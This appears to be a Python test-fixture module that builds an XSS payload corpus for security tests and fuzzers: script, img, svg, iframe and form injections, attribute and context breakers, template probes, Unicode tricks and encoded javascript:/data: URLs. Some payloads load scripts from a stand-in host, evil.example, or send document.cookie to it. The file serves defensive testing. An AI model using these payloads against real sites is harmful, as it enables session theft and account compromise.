"""Hostile input for the XSS corpus (tests/security/test_xss_corpus.py) and the fuzzers.

``XSS_CORPUS`` is a list of strings, each unique. It covers script, img, svg, iframe, object and
form tags; event handlers; ``javascript:``, ``data:`` and ``vbscript:`` URLs in plain, mixed-case,
entity-encoded, percent-encoded and whitespace-split forms, bare, in ``<a href>``, ``<img src>`` and
as Markdown links and images; breakers for ``<textarea>``, ``<title>``, attributes, comments and
CDATA; Django template syntax; breakers for JSON inside ``<script>`` (json_script, JSON-LD); and
Unicode tricks (NUL, bidi overrides, zero-width characters, full-width brackets).
"""

# --- Hand-written payloads, grouped by what they try ------------------------------------------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src='https://evil.example/x.js'></script>",
    "<script/xss src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert`1`</script>",
    "<script>window.__xss=1</script>",
    "<script defer async>fetch('//evil.example?'+document.cookie)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]

IMG_AND_MEDIA = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<image src=x onerror=alert(1)>",
    '<img srcset=",,,,,x" onerror=alert(1)>',
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<picture><source srcset=x><img src=x onerror=alert(1)></picture>",
    "<input type=image src=x onerror=alert(1)>",
]

SVG_AND_MATH = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,'
    'PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x"/></svg>',
    "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

FRAMES_OBJECTS_FORMS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<IFRAME SRC=//evil.example></IFRAME>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<frameset onload=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<a href="javascript:alert(1)">клик</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)" onclick=alert(1)>x</a>',
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1)>Абзац</p>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<table background=javascript:alert(1)></table>",
    "<template><script>alert(1)</script></template>",
]

BREAKERS = [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "`onmouseover=alert(1)",
    "</textarea><script>alert(1)</script>",
    "</TEXTAREA><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"/><script>alert(1)</script>',
    "</p></div></article><script>alert(1)</script>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]

TEMPLATE_SYNTAX = [
    "{{ request }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "{% load static %}{% static 'x' %}",
    "{{ 7|add:7 }}",
    "{# comment #}visible",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
]

JSON_BREAKERS = [
    "</script><script>alert(1)</script>",
    '"}]}</script><script>alert(1)</script>',
    "</ScRiPt ><img src=x onerror=alert(1)>",
    "\\u003c/script\\u003e<script>alert(1)</script>",
    '"};alert(1);//',
    '\\"); alert(1);//',
    "<!--<script>",
    "\\x3c/script\\x3e",
    "line\u2028separator\u2029paragraph",
    '{"@context": "https://evil.example", "@type": "Person"}',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
]

UNICODE_TRICKS = [
    "\u202egnp.exe",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "\ufeff<script>alert(1)</script>",
    "Иван\u2066<img src=x onerror=alert(1)>\u2069",
    '<a href="java\u0000script:alert(1)">x</a>',
    "\u0430lert(1) <ѕcript>",  # Cyrillic look-alikes
]

MARKDOWN = [
    "[клик](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![x](javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '![a" onerror="alert(1)](x)',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "**<script>alert(1)</script>**",
]

# --- Dangerous URL schemes in every spelling and every place a URL can go ------------------------------

SCHEMES = [
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]


def _mixed_case(url: str) -> str:
    scheme, _, rest = url.partition(":")
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(scheme)) + ":" + rest


def _entity(url: str) -> str:
    """Every letter of the scheme as a decimal entity, and a carriage return entity in the middle."""
    scheme, _, rest = url.partition(":")
    head = "".join(f"&#{ord(c)};" for c in scheme[:3])
    return f"{head}&#x0D;{scheme[3:]}&#58;{rest}"


def _hex_entity(url: str) -> str:
    scheme, _, rest = url.partition(":")
    return "".join(f"&#x{ord(c):x}" for c in scheme) + "&colon;" + rest


def _percent(url: str) -> str:
    scheme, _, rest = url.partition(":")
    return "".join(f"%{ord(c):02X}" for c in scheme) + "%3A" + rest


def _split(url: str) -> str:
    """Tab and newline inside the scheme and control characters before it: browsers drop them."""
    scheme, _, rest = url.partition(":")
    return f"\x01 {scheme[:2]}\t{scheme[2:4]}\n{scheme[4:]}:{rest}"


ENCODINGS = [lambda u: u, _mixed_case, _entity, _hex_entity, _percent, _split]
PLACES = [
    "{}",
    '<a href="{}">връзка</a>',
    "<img src='{}'>",
    "<iframe src={}></iframe>",
    "[връзка]({})",
    "![снимка]({})",
]


def scheme_payloads() -> list[str]:
    """4 schemes × 6 spellings × 6 places, minus the spellings that come out the same."""
    out = []
    for url in SCHEMES:
        for encode in ENCODINGS:
            for place in PLACES:
                out.append(place.replace("{}", encode(url)))
    return out


def _unique(items) -> list[str]:
    seen, out = set(), []
    for item in items:
        if item not in seen:
            seen.add(item)
            out.append(item)
    return out


HAND_WRITTEN = _unique(
    SCRIPT_TAGS
    + IMG_AND_MEDIA
    + SVG_AND_MATH
    + FRAMES_OBJECTS_FORMS
    + BREAKERS
    + TEMPLATE_SYNTAX
    + JSON_BREAKERS
    + UNICODE_TRICKS
    + MARKDOWN
)
XSS_CORPUS = _unique(HAND_WRITTEN + scheme_payloads())

# Payloads that are markup when pasted raw into HTML: the oracle must flag each of them in a page that
# forgets to escape (tests/security/test_xss_corpus.py::test_the_oracle_catches_raw_payloads).
# Left out: a few aimed at naive filters that are inert when raw ("<scr<script>ipt>"), a <frameset> (ignored
# inside a body) and a CSS url() (old IE only; CSP forbids inline style anyway).
_INERT_RAW = {
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
}
# Percent-encoding hides a scheme from browsers too: those URLs are relative, so they are not listed here.
_RAW_URLS = [
    place.replace("{}", encode(url))
    for url in SCHEMES
    for encode in ENCODINGS
    if encode is not _percent
    for place in PLACES[1:4]
]
RAW_MARKUP = [
    p for p in SCRIPT_TAGS + IMG_AND_MEDIA + SVG_AND_MATH + FRAMES_OBJECTS_FORMS + _RAW_URLS if p not in _INERT_RAW
]
